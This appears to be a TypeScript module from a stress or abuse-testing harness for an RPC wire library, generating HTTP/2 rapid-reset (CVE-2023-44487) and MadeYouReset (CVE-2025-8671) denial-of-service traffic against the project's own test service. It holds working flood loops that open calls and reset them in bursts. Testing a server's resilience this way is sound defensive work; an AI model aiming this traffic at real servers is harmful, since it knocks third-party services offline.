import { ErrorCode } from "@strand/wire";
import { encodeRstStream, encodeWindowUpdate, FrameType } from "@strand/wire/internal";
import { encodeSize } from "../../shared/abuse-service.ts";
import type { Campaign } from "../campaign.ts";
import type { RawConnection } from "../raw-connection.ts";
import { concat, frame, handshake, requestHead, unaryCall } from "../frames.ts";

/** Calls per write. */
const PAIRS = 100;
const CANCEL = encodeRstStream(ErrorCode.Cancel);
const OVERFLOW = encodeWindowUpdate(2 ** 31 - 1);

/**
 * Writes bursts of `PAIRS` calls, each followed by what gets it reset, with ever-increasing
 * stream IDs, until the connection closes or the campaign stops.
 */
async function resetLoop(campaign: Campaign, conn: RawConnection, pair: (id: number) => Uint8Array[], counter: string): Promise<void> {
  conn.write(handshake());
  let id = 1;
  let sinceYield = 0;
  while (campaign.active && !conn.closed) {
    const parts: Uint8Array[] = [];
    for (let i = 0; i < PAIRS; i++, id += 2) parts.push(...pair(id));
    const whole = conn.write(concat(parts));
    campaign.count(counter, PAIRS);
    if (!whole) await Promise.race([conn.drained(), campaign.stopped]);
    else if (++sinceYield >= 4) {
      sinceYield = 0;
      await new Promise<void>((r) => setImmediate(r));
    }
  }
}

/** Class 3, rapid reset (CVE-2023-44487): a call to `slow`, then RST_STREAM CANCEL for it, again and again. */
export function rapidReset(campaign: Campaign): Promise<void> {
  const head = requestHead("slow");
  const message = encodeSize(1000);
  return campaign.persist((conn) => resetLoop(campaign, conn, (id) => [unaryCall(id, head, message), frame(FrameType.RstStream, 0, id, CANCEL)], "resets"));
}

/**
 * Class 4, MadeYouReset (CVE-2025-8671): a call, then a WINDOW_UPDATE that overflows the stream's
 * send window, so the server itself resets it. Calls alternate between `slow` (honours its
 * signal: gone at the reset) and `stubborn` (ignores it for 250 ms: its slot stays taken).
 */
export function madeYouReset(campaign: Campaign): Promise<void> {
  const slow = requestHead("slow");
  const stubborn = requestHead("stubborn");
  const message = encodeSize(250);
  return campaign.persist((conn) =>
    resetLoop(campaign, conn, (id) => [unaryCall(id, id % 4 === 1 ? slow : stubborn, message), frame(FrameType.WindowUpdate, 0, id, OVERFLOW)], "provokedResets"),
  );
}
